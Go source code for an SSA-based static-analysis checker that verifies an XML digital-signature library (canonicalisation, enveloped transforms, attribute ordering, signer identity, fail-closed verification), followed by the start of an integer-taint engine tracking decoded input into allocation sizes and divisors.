			c.Check(emitted[s], "R19c", "parseAlgs accepts key type "+s, p.Pos(pa.Pos()), "emitted by hashAlgs", "parseAlgs accepts "+s+" but the signer never emits it")
		}
	}
	// canonicalisation / transform URIs
	ver := p.Func(rel + ".Verify")
	cn := p.Func(rel + ".(SignOptions).c14nNamespace")
	bs := p.Func(rel + ".buildSignedInfo")
	if ver == nil || cn == nil || bs == nil {
		c.Undecided("R19c", "Verify/c14nNamespace/buildSignedInfo", "-", "function not found")
		return
	}
	required := stringConstsIn(ver, true)
	// and the constants compared in a predicate of the package that Verify asks
	for _, b := range ver.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(ssa.CallInstruction); ok {
				if g := ci.Common().StaticCallee(); g != nil && pkgOf(g) == pkgOf(ver) && len(g.Blocks) > 0 && g.Signature.Results().Len() == 1 && isBool(g.Signature.Results().At(0).Type()) {
					for k := range stringConstsIn(g, true) {
						required[k] = true
					}
				}
			}
		}
	}
	n := 0
	for _, r := range returnsOf(cn) {
		for _, lf := range phiLeaves(retVal(r, 0), nil, map[*ssa.Phi]bool{}) {
			if s, ok := constString(lf.V); ok {
				n++
				c.Check(required[s], "R19c", "c14n URI "+s, p.Pos(cn.Pos()), "accepted by Verify", "the signer declares the canonicalisation method "+s+", which Verify rejects")
			}
		}
	}
	c.Check(n == 2, "R19c", "c14nNamespace returns two constant URIs", p.Pos(cn.Pos()), "", fmt.Sprintf("%d constant URIs found", n))
	for s := range stringConstsIn(bs, false) {
		if strings.HasPrefix(s, "http://www.w3.org/") && strings.Contains(s, "enveloped") {
			c.Check(required[s], "R19c", "transform URI "+s, p.Pos(bs.Pos()), "required by Verify", "the enveloped-signature transform URI the signer writes is not the one Verify requires")
		}
	}
}

// ------------------------------------------------------------------------------ R19d

func c19Transform(c *Ctx) {
	p := c.P
	sign := p.Func("lib/xmldsig.Sign")
	ver := p.Func("lib/xmldsig.Verify")
	ser := p.Func("lib/xmldsig.SerializeCanonical")
	if sign == nil || ver == nil || ser == nil {
		c.Undecided("R19d", "Sign/Verify/SerializeCanonical", "-", "function not found")
		return
	}
	c.Analysed(p.FName(sign))
	c.Analysed(p.FName(ser))
	hc := p.callsIn(sign, "lib/xmldsig.hashCanon")
	rm := p.callsIn(sign, "lib/xmldsig.RemoveElements")
	var create ssa.CallInstruction
	for _, ci := range p.callsIn(sign, "(*github.com/beevik/etree.Element).CreateElement") {
		if s, ok := constString(ci.Common().Args[1]); ok && s == "Signature" {
			create = ci
		}
	}
	ok := len(hc) == 1 && len(rm) == 1 && create != nil
	if ok {
		s, isS := constString(rm[0].Common().Args[1])
		ok = isS && s == "Signature" && !avoidable(sign, rm[0], hc[0]) && !reachableAfter(sign, create, hc[0], nil, nil) && reachableAfter(sign, hc[0], create, nil, nil)
	}
	c.Check(ok, "R19d", "Sign digests the document without any Signature element", p.Pos(sign.Pos()), "RemoveElements(\"Signature\") < hashCanon < CreateElement(\"Signature\")", "the reference digest is not computed between removing the old Signature and attaching the new one: the enveloped-signature transform the signer declares is not what it did")
	// Verify: RemoveChild(sigEl) before the reference digest on the enveloped branch
	rc := p.callsIn(ver, "(*github.com/beevik/etree.Element).RemoveChild")
	hcs := p.callsIn(ver, "lib/xmldsig.hashCanon")
	okV := len(rc) >= 1 && len(hcs) == 2
	if okV {
		// the reference digest is the hashCanon call whose argument is a phi (root or the located element)
		var refHash ssa.CallInstruction
		for _, h := range hcs {
			if _, isPhi := h.Common().Args[0].(*ssa.Phi); isPhi {
				refHash = h
			}
		}
		okV = refHash != nil && reachableAfter(ver, rc[0], refHash, nil, nil) && !reachableAfter(ver, refHash, rc[0], nil, nil)
		if okV {
			// the removal sits on the URI=="" side
			uriEmpty := Guard{Name: `Reference.URI == ""`, Match: func(f Fact) bool {
				bo, ok := f.V.(*ssa.BinOp)
				if !ok {
					return false
				}
				s1, ok1 := constString(bo.X)
				s2, ok2 := constString(bo.Y)
				isEmpty := (ok1 && s1 == "") || (ok2 && s2 == "")
				return isEmpty && ((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse))
			}}
			missing, _ := p.unguardedFromEntry(ver, rc[0], uriEmpty)
			okV = len(missing) == 0
		}
	}
	c.Check(okV, "R19d", "Verify detaches the Signature before digesting an enveloped reference", p.Pos(ver.Pos()), "", "Verify does not remove the Signature element before digesting the enveloping document (or does so for the wrong reference kind)")
	// canonical write settings and copy
	settings := map[string]bool{}
	for _, b := range ser.Blocks {
		for _, in := range b.Instrs {
			if st, ok := in.(*ssa.Store); ok {
				if tn, f, _ := p.fieldAddr(st.Addr); strings.HasSuffix(tn, "etree.WriteSettings") {
					if bv, isB := boolConst(st.Val); isB && bv {
						settings[f] = true
					}
				}
			}
		}
	}
	for _, f := range []string{"CanonicalEndTags", "CanonicalText", "CanonicalAttrVal"} {
		c.Check(settings[f], "R19d", "SerializeCanonical sets "+f, p.Pos(ser.Pos()), "", "the canonical serialisation no longer sets WriteSettings."+f+": empty elements / text / attribute values are written in non-canonical form")
	}
	for _, f := range etreeReadSettingStores(p) {
		c.Check(f.OK, "R19d", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R19d read settings control (ctl/etree.Load)", "etree.Load", etreeReadSettingStores)
	cp := p.callsIn(ser, "(*github.com/beevik/etree.Element).Copy")
	walker := c19Walker(p)
	var wa []ssa.CallInstruction
	if walker != nil {
		for _, b := range ser.Blocks {
			for _, in := range b.Instrs {
				if ci, ok := in.(ssa.CallInstruction); ok {
					if g := ci.Common().StaticCallee(); g != nil && (g == walker || p.moduleReach([]*ssa.Function{g}, nil)[walker]) && pkgOf(g) != nil && p.Rel(pkgOf(g).Path()) == "lib/xmldsig" && len(ci.Common().Args) > 0 {
						if _, isEl := ci.Common().Args[0].Type().(*types.Pointer); isEl && g.Name() != "pullDown" {
							wa = append(wa, ci)
						}
					}
				}
			}
		}
	}
	okCopy := len(cp) == 1 && len(wa) >= 1
	for _, w := range wa {
		if len(cp) == 1 && w.Common().Args[0] != cp[0].Value() {
			okCopy = false
		}
	}
	c.Check(okCopy, "R19d", "SerializeCanonical mangles a copy", p.Pos(ser.Pos()), "walkAttributes(root.Copy())", "the canonicaliser rewrites namespace declarations on the caller's tree instead of a copy: signing changes the document it signs")
	// comments / PIs dropped: the child loop of walkAttributes removes everything but elements and text
	if w := walker; w != nil {
		c.Analysed(p.FName(w))
		kept := map[string]bool{}
		for _, b := range w.Blocks {
			for _, in := range b.Instrs {
				if ta, ok := in.(*ssa.TypeAssert); ok && ta.CommaOk {
					kept[ta.AssertedType.String()] = true
				}
			}
		}
		okK := len(kept) == 2
		for k := range kept {
			if !strings.HasSuffix(k, "etree.Element") && !strings.HasSuffix(k, "etree.CharData") {
				okK = false
			}
		}
		c.Check(okK, "R19d", "walkAttributes keeps only elements and character data", p.Pos(w.Pos()), "", fmt.Sprintf("child tokens kept by the canonicaliser: %v (comments, processing instructions and directives must be dropped; elements and text kept)", sortedKeys(kept)))
	}
}

// ------------------------------------------------------------------------------ R19e

var c19RuleAttr = "R19e"

func c19AttrOrder(c *Ctx) {
	p := c.P
	w := c19Walker(p)
	if w == nil {
		c.Undecided(c19RuleAttr, "attribute walker", "-", "no function reachable from SerializeCanonical sorts attributes")
		return
	}
	var less *ssa.Function
	for _, ci := range p.callsIn(w, "sort.Slice", "sort.SliceStable") {
		if mc, ok := ci.Common().Args[1].(*ssa.MakeClosure); ok {
			less, _ = mc.Fn.(*ssa.Function)
		}
	}
	if less == nil {
		c.Undecided(c19RuleAttr, "attribute ordering function", p.Pos(w.Pos()), "the closure passed to sort.Slice was not found")
		return
	}
	// a closure that only hands its two elements to a named comparison of the package: judge that
	for i := 0; i < 2; i++ {
		var inner *ssa.Function
		for _, r := range returnsOf(less) {
			if call, _ := resultOf(retVal(r, 0)); call != nil {
				if g := call.Common().StaticCallee(); g != nil && pkgOf(g) == pkgOf(w) && len(g.Blocks) > 0 && len(returnsOf(less)) == 1 {
					inner = g
				}
			}
		}
		if inner == nil {
			break
		}
		less = inner
	}
	c.Analysed(p.FName(less))
	// resolves URIs: reaches a lookup of a declaration or etree's NamespaceURI
	resolves := false
	for f := range p.moduleReach([]*ssa.Function{less}, nil) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				if ci, ok := in.(ssa.CallInstruction); ok {
					switch p.calleeName(ci.Common()) {
					case "(*github.com/beevik/etree.Attr).NamespaceURI", "(*github.com/beevik/etree.Element).NamespaceURI", "(*github.com/beevik/etree.Element).SelectAttr", "(*github.com/beevik/etree.Element).SelectAttrValue":
						resolves = true
					}
				}
			}
		}
	}
	// the lookup must be scoped to the element: no map that the recursive walk keeps adding to
	// (without removing or copying per level) may feed the comparator
	leak := ""
	for f := range p.moduleReach([]*ssa.Function{less}, nil) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				lk, ok := in.(*ssa.Lookup)
				if !ok {
					continue
				}
				if _, isMap := lk.X.Type().Underlying().(*types.Map); !isMap {
					continue
				}
				if c19MapLeaksAcrossWalk(p, w, f, lk.X) {
					leak = p.Pos(lk.Pos())
				}
			}
		}
	}
	c.Check(leak == "", c19RuleAttr, "namespace lookup is scoped to the element", p.Pos(less.Pos()), "no walk-wide binding table feeds the comparator",
		"the comparator resolves prefixes through a map that the recursive walk only ever adds to (lookup at "+leak+"): a prefix re-bound inside one subtree keeps its inner URI for every element visited afterwards, so attributes outside that subtree are ordered by the wrong namespace")
	c.Check(resolves, c19RuleAttr, "attribute order resolves namespace URIs", p.Pos(less.Pos()), "the comparator looks the prefix's declaration up",
		"attributes are ordered by their prefix, never by the namespace URI the prefix is bound to: Canonical XML orders by URI (spec example 3.3: b:attr with http://www.ietf.org precedes a:attr with http://www.w3.org), so any element with two differently prefixed attributes can canonicalise differently from every conforming implementation")
	// declarations first: comparisons against "xmlns"
	cmpX := 0
	keyCmp := false
	for _, b := range less.Blocks {
		for _, in := range b.Instrs {
			bo, ok := in.(*ssa.BinOp)
			if !ok {
				continue
			}
			for _, v := range []ssa.Value{bo.X, bo.Y} {
				if s, ok := constString(v); ok && s == "xmlns" {
					cmpX++
				}
			}
			if bo.Op == token.LSS {
				_, f1, _ := p.fieldLoad(bo.X)
				_, f2, _ := p.fieldLoad(bo.Y)
				if f1 == "Key" && f2 == "Key" {
					keyCmp = true
				}
			}
		}
	}
	c.Check(cmpX >= 4, c19RuleAttr, "namespace declarations sort first", p.Pos(less.Pos()), fmt.Sprintf("%d tests against xmlns", cmpX), "the comparator no longer places the default and prefixed namespace declarations before ordinary attributes")
	c.Check(keyCmp, c19RuleAttr, "local name is the last key", p.Pos(less.Pos()), "", "attributes in the same namespace are not ordered by local name")
}

// ------------------------------------------------------------------------------ R19f

func c19Identity(c *Ctx) {
	p := c.P
	sign := p.Func("lib/appmanifest.Sign")
	if sign == nil {
		c.Undecided("R19f", "appmanifest.Sign", "-", "function not found")
		return
	}
	c.Analysed(p.FName(sign))
	var cert *ssa.Parameter
	for _, pa := range sign.Params {
		if strings.HasSuffix(pa.Type().String(), "certloader.Certificate") {
			cert = pa
		}
	}
	if cert == nil {
		c.Undecided("R19f", "appmanifest.Sign certificate parameter", p.Pos(sign.Pos()), "not found")
		return
	}
	// The two identity steps are found by what they do (the publicKeyToken attribute, the
	// PublisherIdentity computation), in Sign itself or in a helper of the package Sign calls with
	// the certificate; certIn maps the certificate into that host.
	hostOf := func(match func(ci ssa.CallInstruction) bool) (*ssa.Function, ssa.Value, ssa.CallInstruction) {
		for _, ci := range callsOf(sign) {
			if match(ci) {
				return sign, cert, ci
			}
		}
		for _, call := range callsOf(sign) {
			h := call.Common().StaticCallee()
			if h == nil || h.Pkg != sign.Pkg || h.Blocks == nil {
				continue
			}
			for _, ci := range callsOf(h) {
				if !match(ci) {
					continue
				}
				for i, a := range call.Common().Args {
					if a == ssa.Value(cert) && i < len(h.Params) {
						return h, h.Params[i], ci
					}
				}
				return h, nil, ci
			}
		}
		return nil, nil, nil
	}
	tokHost, tokCert, tokAttr := hostOf(func(ci ssa.CallInstruction) bool {
		if p.calleeName(ci.Common()) != "(*github.com/beevik/etree.Element).CreateAttr" {
			return false
		}
		s, isS := constString(ci.Common().Args[1])
		return isS && s == "publicKeyToken"
	})
	c.Check(tokHost != nil && tokCert != nil, "R19f", "appmanifest.Sign publicKeyToken step uses the signing certificate", p.Pos(sign.Pos()), "", "the step that writes publicKeyToken is not given the certificate that signs")
	pubHost, pubCert, pubCall := hostOf(func(ci ssa.CallInstruction) bool {
		return p.calleeName(ci.Common()) == "lib/appmanifest.PublisherIdentity"
	})
	c.Check(pubHost != nil && pubCert != nil, "R19f", "appmanifest.Sign publisherIdentity step uses the signing certificate", p.Pos(sign.Pos()), "", "the step that computes publisherIdentity is not given the certificate that signs")
	xs := p.callsIn(sign, "lib/xmldsig.Sign")
	okS := len(xs) == 2
	for _, ci := range xs {
		for _, ai := range []int{3, 4} {
			call, _ := resultOf(ci.Common().Args[ai])
			if call == nil || len(call.Common().Args) == 0 || call.Common().Args[0] != ssa.Value(cert) {
				okS = false
			}
		}
	}
	c.Check(okS, "R19f", "appmanifest.Sign signs both signatures with that certificate's key and chain", p.Pos(sign.Pos()), "", "a signature in the manifest is made with a key or chain that is not the one the identity fields were derived from")
	if f := tokHost; f != nil && tokCert != nil {
		c.Analysed(p.FName(f))
		attr := tokAttr
		call, idx := resultOf(attr.Common().Args[2])
		ok := call != nil && idx == 0 && p.calleeName(call.Common()) == "lib/appmanifest.PublicKeyToken" &&
			dependsOn(call.Common().Args[0], func(x ssa.Value) bool { return x == tokCert })
		c.Check(ok, "R19f", "publicKeyToken is computed from the certificate's public key", p.Pos(f.Pos()), "", "the publicKeyToken attribute is not PublicKeyToken(cert.Leaf.PublicKey) of the signing certificate")
		okAll := true
		for _, r := range p.successReturns(f) {
			if avoidable(f, attr, r) {
				okAll = false
			}
		}
		c.Check(okAll, "R19f", "publicKeyToken is written on every success path", p.Pos(attr.Pos()), "", p.FName(f)+" can return successfully without writing the signing key's token: a manifest that already carries another key's token keeps it, and the signed identity names a key that did not sign")
	}
	if f := pubHost; f != nil && pubCert != nil {
		c.Analysed(p.FName(f))
		ok := pubCall.Common().Args[0] == pubCert
		c.Check(ok, "R19f", "publisherIdentity is computed from the signing certificate", p.Pos(f.Pos()), "", "publisherIdentity is not derived from the signing certificate")
		var rm ssa.CallInstruction
		for _, ci := range p.callsIn(f, "lib/xmldsig.RemoveElements") {
			rm = ci
		}
		nAttr := 0
		okAll := rm != nil
		for _, ci := range p.callsIn(f, "(*github.com/beevik/etree.Element).CreateAttr") {
			if s, isS := constString(ci.Common().Args[1]); isS && s == "publicKeyToken" {
				continue
			}
			nAttr++
			for _, r := range p.successReturns(f) {
				if avoidable(f, ci, r) || (rm != nil && avoidable(f, rm, r)) {
					okAll = false
				}
			}
		}
		c.Check(okAll && nAttr == 2, "R19f", "publisherIdentity is replaced on every success path", p.Pos(f.Pos()), "", p.FName(f)+" can succeed without replacing an existing publisherIdentity (old element removed, name and issuerKeyHash written)")
	}
	// VSIX
	for _, fn := range p.pkgFuncs("signers/vsix") {
		for _, ci := range p.callsIn(fn, "lib/xmldsig.SignEnveloping") {
			c.Analysed(p.FName(fn))
			k, _ := resultOf(ci.Common().Args[2])
			ch, _ := resultOf(ci.Common().Args[3])
			ok := k != nil && ch != nil && len(k.Common().Args) > 0 && len(ch.Common().Args) > 0 && k.Common().Args[0] == ch.Common().Args[0]
			c.Check(ok, "R19f", p.FName(fn)+" signs with one certificate's key and chain", p.Pos(ci.Pos()), "", "the OPC signature's key and certificate chain come from different certificate objects")
		}
	}
	_ = sort.Strings
}

// constLiteral2: like constLiteral, with string keys unquoted.
func (p *Prog) constLiteral2(rel, name string) ([]string, []string, bool) {
	keys, vals, ok := p.constLiteral(rel, name)
	for i, k := range keys {
		keys[i] = strings.Trim(k, "\"")
	}
	return keys, vals, ok
}

// c19MapLeaksAcrossWalk: m (a map value used in function user, reached from the attribute
// comparator) is a binding table of the recursive walker: the walker updates it, hands the very
// same map to its recursive call, and never deletes from it.
func c19MapLeaksAcrossWalk(p *Prog, walker, user *ssa.Function, m ssa.Value) bool {
	// values that stand for one map-typed parameter of the walker: the parameter itself and,
	// when it is captured by a closure (spilled to a cell), the cell and its loads
	type ident struct {
		param *ssa.Parameter
		cell  *ssa.Alloc
	}
	var ids []ident
	for _, pa := range walker.Params {
		if _, isMap := pa.Type().Underlying().(*types.Map); !isMap {
			continue
		}
		id := ident{param: pa}
		for _, r := range *pa.Referrers() {
			if st, ok := r.(*ssa.Store); ok && st.Val == ssa.Value(pa) {
				if a, ok := st.Addr.(*ssa.Alloc); ok {
					id.cell = a
				}
			}
		}
		ids = append(ids, id)
	}
	isOf := func(v ssa.Value, id ident, in *ssa.Function) bool {
		if v == ssa.Value(id.param) {
			return true
		}
		if l, ok := v.(*ssa.UnOp); ok && l.Op == token.MUL {
			if id.cell != nil && l.X == ssa.Value(id.cell) {
				return true
			}
			if fv, ok := l.X.(*ssa.FreeVar); ok && id.cell != nil {
				if mc := closureMaker(walker, in); mc != nil {
					for i, v2 := range in.FreeVars {
						if v2 == fv && i < len(mc.Bindings) && mc.Bindings[i] == ssa.Value(id.cell) {
							return true
						}
					}
				}
			}
		}
		if fv, ok := v.(*ssa.FreeVar); ok {
			if mc := closureMaker(walker, in); mc != nil {
				for i, v2 := range in.FreeVars {
					if v2 == fv && i < len(mc.Bindings) && mc.Bindings[i] == ssa.Value(id.param) {
						return true
					}
				}
			}
		}
		return false
	}
	// which walker map does m stand for?
	var hit *ident
	for i := range ids {
		id := ids[i]
		if user == walker || closureMaker(walker, user) != nil {
			if isOf(m, id, user) {
				hit = &ids[i]
			}
			continue
		}
		// a helper: m is its parameter, look at the call sites in the walker and its closures
		pa, ok := m.(*ssa.Parameter)
		if !ok {
			continue
		}
		idx := -1
		for k, up := range user.Params {
			if up == pa {
				idx = k
			}
		}
		for _, f := range withClosures(walker) {
			for _, ci := range p.callsIn(f, p.FName(user)) {
				if idx >= 0 && idx < len(ci.Common().Args) && isOf(ci.Common().Args[idx], id, f) {
					hit = &ids[i]
				}
			}
		}
	}
	if hit == nil {
		return false
	}
	updates, deletes, passedOn := false, false, false
	for _, f := range withClosures(walker) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.MapUpdate:
					if isOf(x.Map, *hit, f) {
						updates = true
					}
				case ssa.CallInstruction:
					if bi, ok := x.Common().Value.(*ssa.Builtin); ok && bi.Name() == "delete" && len(x.Common().Args) > 0 && isOf(x.Common().Args[0], *hit, f) {
						deletes = true
					}
					if x.Common().StaticCallee() == walker {
						for _, a := range x.Common().Args {
							if isOf(a, *hit, f) {
								passedOn = true
							}
						}
					}
				}
			}
		}
	}
	return updates && passedOn && !deletes
}

// ------------------------------------------------------------------------------ R19g

func c19FailClosed(c *Ctx) {
	p := c.P
	ver := p.Func("lib/xmldsig.Verify")
	if ver == nil {
		c.Undecided("R19g", "xmldsig.Verify", "-", "function not found")
		return
	}
	n := primitivesFailClosed(c, "R19g", map[*ssa.Function]bool{ver: true}, false)
	if n < 2 {
		c.Undecided("R19g", "signature checks in xmldsig.Verify", p.Pos(ver.Pos()), fmt.Sprintf("only %d primitive verification calls found (2 confirmed by reading)", n))
	}
	// the reference digest comparison guards every success return
	eq := p.callsIn(ver, "crypto/hmac.Equal")
	if len(eq) != 1 {
		c.Fail("R19g", "xmldsig.Verify compares the reference digest", p.Pos(ver.Pos()), fmt.Sprintf("%d constant-time digest comparisons found, 1 expected", len(eq)))
		return
	}
	g := p.callGuard("hmac.Equal()==true", []string{"crypto/hmac.Equal"}, -1, IsTrue, nil)
	ok := true
	var path []string
	for _, r := range p.successReturns(ver) {
		if missing, w := p.unguardedFromEntry(ver, r, g); len(missing) > 0 {
			ok = false
			path = w
		}
	}
	c.Check(ok, "R19g", "xmldsig.Verify succeeds only after the reference digest matched", p.Pos(eq[0].Pos()), "", "a success return of Verify is reachable without the reference digest comparison having succeeded", path...)
}

// c19Walker: the function of lib/xmldsig, reachable from SerializeCanonical, that sorts attributes.
func c19Walker(p *Prog) *ssa.Function {
	ser := p.Func("lib/xmldsig.SerializeCanonical")
	if ser == nil {
		return nil
	}
	var out *ssa.Function
	for f := range p.moduleReach([]*ssa.Function{ser}, nil) {
		if pkgOf(f) == nil || p.Rel(pkgOf(f).Path()) != "lib/xmldsig" || f.Parent() != nil {
			continue
		}
		if len(p.callsIn(f, "sort.Slice", "sort.SliceStable")) > 0 {
			if out == nil || p.FName(f) < p.FName(out) {
				out = f
			}
		}
	}
	return out
}

// etreeReadSettingStores: documents that get canonicalised are parsed with the default read
// settings. PreserveCData keeps CDATA sections flagged so that the serialiser writes them back
// verbatim (Canonical XML replaces them by their escaped character content);
// PreserveDuplicateAttrs keeps attributes a conforming parser rejects.
func etreeReadSettingStores(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				tn, f, _ := p.fieldAddr(st.Addr)
				if !strings.HasSuffix(tn, "etree.ReadSettings") || (f != "PreserveCData" && f != "PreserveDuplicateAttrs") {
					continue
				}
				n++
				bv, isB := boolConst(st.Val)
				out = append(out, gFinding{Key: fmt.Sprintf("%s sets ReadSettings.%s#%d", p.FName(fn), f, n), Pos: p.Pos(st.Pos()), OK: isB && !bv,
					Detail: "the XML parser is told to keep " + f + ": the tree then serialises CDATA sections (or duplicate attributes) verbatim, so the digest is taken over a form that is not Canonical XML and no other verifier reproduces it"})
			}
		}
	}
	return out
}

// xmlFinishHost: xmldsig.finishSignature, and the function in which the signing itself happens: finishSignature,
// or a step of it that was given a name (a helper of the package it calls, which signs with a parameter).
func xmlFinishHost(p *Prog) (fin, host *ssa.Function, via ssa.CallInstruction) {
	fin = p.Func("lib/xmldsig.finishSignature")
	if fin == nil {
		return nil, nil, nil
	}
	if len(p.callsIn(fin, "(crypto.Signer).Sign")) > 0 {
		return fin, fin, nil
	}
	for _, b := range fin.Blocks {
		for _, in := range b.Instrs {
			ci, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			g := ci.Common().StaticCallee()
			if g != nil && pkgOf(g) == pkgOf(fin) && len(g.Blocks) > 0 && len(p.callsIn(g, "(crypto.Signer).Sign")) > 0 {
				return fin, g, ci
			}
		}
	}
	return fin, fin, nil
}
