package main

// E3 — integer taint from decoded input to allocation sizes and divisors.

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// A label says where an integer may come from.
//
//	src:   decoded from input inside this function (or a callee), with a width bound flag
//	param: flows from parameter #k of the enclosing function (resolved at call sites)
type tlabel struct {
	param   int    // -1 for an intrinsic source
	bounded bool   // value provably small (<= 16 bit source, masked, …)
	origin  string // human readable origin of the first source found
	// validated where it was decoded (field-carried values only): the decoding function
	// compares it on every path to its success returns
	allocOK bool
	divOK   bool
}

type tset []tlabel

func (s tset) tainted() bool { return len(s) > 0 }

// unboundedSrc: contains an intrinsic, not width-bounded source.
func (s tset) unboundedSrc() (string, bool) {
	for _, l := range s {
		if l.param < 0 && !l.bounded && !l.allocOK {
			return l.origin, true
		}
	}
	return "", false
}

func (s tset) anySrc() (string, bool) {
	for _, l := range s {
		if l.param < 0 {
			return l.origin, true
		}
	}
	return "", false
}

// divSrc: an intrinsic source that was not validated against zero where it was decoded.
func (s tset) divSrc() (string, bool) {
	for _, l := range s {
		if l.param < 0 && !l.divOK {
			return l.origin, true
		}
	}
	return "", false
}

func (s tset) params() []tlabel {
	var out []tlabel
	for _, l := range s {
		if l.param >= 0 {
			out = append(out, l)
		}
	}
	return out
}

func mergeT(a, b tset) tset {
	out := append(tset{}, a...)
	for _, l := range b {
		dup := false
		for i, o := range out {
			if o.param == l.param {
				dup = true
				out[i].allocOK = out[i].allocOK && l.allocOK
				out[i].divOK = out[i].divOK && l.divOK
				if !l.bounded {
					out[i].bounded = false
					if l.param < 0 {
						out[i].origin = l.origin
					}
				}
			}
		}
		if !dup {
			out = append(out, l)
		}
	}
	return out
}

func boundAll(s tset) tset {
	out := make(tset, len(s))
	for i, l := range s {
		l.bounded = true
		out[i] = l
	}
	return out
}

type taintEngine struct {
	p *Prog
	// wire: named struct types whose integer fields are filled from input bytes
	wire map[string]string // "pkg.Type" -> how (binary.Read / xml.Unmarshal …)
	// wireAllocs: local variables of basic integer type decoded in place (binary.Read(r, o, &n))
	wireAllocs map[ssa.Value]string
	// fieldTaint: fields (of non-wire types) into which a tainted value is stored somewhere
	fieldTaint map[string]tset
	memo       map[ssa.Value]tset
	busy       map[ssa.Value]bool
	retMemo    map[*ssa.Function][]tset
	retBusy    map[*ssa.Function]bool
	// wireChecked: see wireCheckedFields
	wireChecked map[string]bool
	// wireDecoders: wire type -> functions in which a value of that type is decoded
	wireDecoders map[string]map[*ssa.Function]bool
}

var decodeCalls = map[string]int{ // callee -> index of the destination argument
	"encoding/binary.Read":               2,
	"encoding/xml.Unmarshal":             1,
	"(*encoding/xml.Decoder).Decode":     1,
	"encoding/json.Unmarshal":            1,
	"(*encoding/json.Decoder).Decode":    1,
	"encoding/asn1.Unmarshal":            1,
	"encoding/asn1.UnmarshalWithParams":  1,
	"howett.net/plist.Unmarshal":         1,
	"(*howett.net/plist.Decoder).Decode": 1,
}

func newTaintEngine(p *Prog) *taintEngine {
	t := &taintEngine{p: p, wire: map[string]string{}, wireAllocs: map[ssa.Value]string{}, fieldTaint: map[string]tset{},
		memo: map[ssa.Value]tset{}, busy: map[ssa.Value]bool{}, retMemo: map[*ssa.Function][]tset{}, retBusy: map[*ssa.Function]bool{}, wireDecoders: map[string]map[*ssa.Function]bool{}}
	t.findWire()
	// records that a standard-library reader decodes from the stream it is given: the sizes in them
	// are as much the sender's as a field read with binary.Read
	for name, how := range map[string]string{"archive/tar.Header": "(*archive/tar.Reader).Next"} {
		if _, ok := t.wire[name]; !ok {
			t.wire[name] = how
		}
	}
	t.propagateFields()
	return t
}

func intWidth(t types.Type) int {
	b, ok := t.Underlying().(*types.Basic)
	if !ok || b.Info()&types.IsInteger == 0 {
		return 0
	}
	switch b.Kind() {
	case types.Int8, types.Uint8:
		return 8
	case types.Int16, types.Uint16:
		return 16
	case types.Int32, types.Uint32:
		return 32
	default:
		return 64
	}
}

// markWireType marks T (and structs nested in it by value / array / slice) as decoded from input.
func (t *taintEngine) markWireType(ty types.Type, how string, depth int) {
	if depth > 4 {
		return
	}
	switch x := ty.(type) {
	case *types.Pointer:
		t.markWireType(x.Elem(), how, depth+1)
		return
	case *types.Slice:
		t.markWireType(x.Elem(), how, depth+1)
		return
	case *types.Array:
		t.markWireType(x.Elem(), how, depth+1)
		return
	}
	n, ok := ty.(*types.Named)
	if !ok {
		if st, ok := ty.Underlying().(*types.Struct); ok {
			for i := 0; i < st.NumFields(); i++ {
				t.markWireType(st.Field(i).Type(), how, depth+1)
			}
		}
		return
	}
	st, ok := n.Underlying().(*types.Struct)
	if !ok {
		return
	}
	if n.Obj().Pkg() == nil {
		return
	}
	// stdlib wire structs (debug/pe headers, …) count too when the module decodes into them
	name := typeName(t.p, n)
	if _, seen := t.wire[name]; seen {
		return
	}
	t.wire[name] = how
	for i := 0; i < st.NumFields(); i++ {
		ft := st.Field(i).Type()
		switch ft.Underlying().(type) {
		case *types.Struct, *types.Array, *types.Slice, *types.Pointer:
			t.markWireType(ft, how, depth+1)
		}
	}
}

// findWire locates every decode call (directly or through a wrapper that forwards one of
// its parameters to the destination argument) and marks the destination's type.
func (t *taintEngine) findWire() {
	p := t.p
	// wrappers: function -> parameter index that reaches a decode destination
	wrappers := map[*ssa.Function]map[int]string{}
	for pass := 0; pass < 3; pass++ {
		for _, fn := range p.Funcs {
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					ci, ok := in.(ssa.CallInstruction)
					if !ok {
						continue
					}
					name := p.calleeName(ci.Common())
					dests := map[int]string{}
					if idx, ok := decodeCalls[name]; ok {
						args := ci.Common().Args
						if ci.Common().IsInvoke() {
							idx-- // receiver is not in Args for invoke; not used here
						}
						if idx < len(args) {
							dests[idx] = name
						}
					}
					if sc := ci.Common().StaticCallee(); sc != nil {
						for k, how := range wrappers[sc] {
							dests[k] = how
						}
					}
					for idx, how := range dests {
						if idx >= len(ci.Common().Args) {
							continue
						}
						dst := stripConv(ci.Common().Args[idx])
						if par, ok := dst.(*ssa.Parameter); ok {
							for k, pp := range fn.Params {
								if pp == par {
									if wrappers[fn] == nil {
										wrappers[fn] = map[int]string{}
									}
									wrappers[fn][k] = how
								}
							}
							continue
						}
						// destination type
						ty := dst.Type()
						if pt, ok := ty.Underlying().(*types.Pointer); ok {
							if intWidth(pt.Elem()) > 0 {
								t.wireAllocs[dst] = how
							}
						}
						t.markWireType(ty, how, 0)
						for _, tn := range t.wireTypeNames(ty, 0) {
							if t.wireDecoders[tn] == nil {
								t.wireDecoders[tn] = map[*ssa.Function]bool{}
							}
							t.wireDecoders[tn][fn] = true
						}
					}
				}
			}
		}
	}
}

// wireTypeNames: the named struct types reachable from ty the way markWireType walks it.
func (t *taintEngine) wireTypeNames(ty types.Type, depth int) []string {
	if depth > 4 {
		return nil
	}
	switch x := ty.(type) {
	case *types.Pointer:
		return t.wireTypeNames(x.Elem(), depth+1)
	case *types.Slice:
		return t.wireTypeNames(x.Elem(), depth+1)
	case *types.Array:
		return t.wireTypeNames(x.Elem(), depth+1)
	}
	var out []string
	st, ok := ty.Underlying().(*types.Struct)
	if !ok {
		return nil
	}
	if n, ok := ty.(*types.Named); ok && n.Obj().Pkg() != nil {
		out = append(out, typeName(t.p, n))
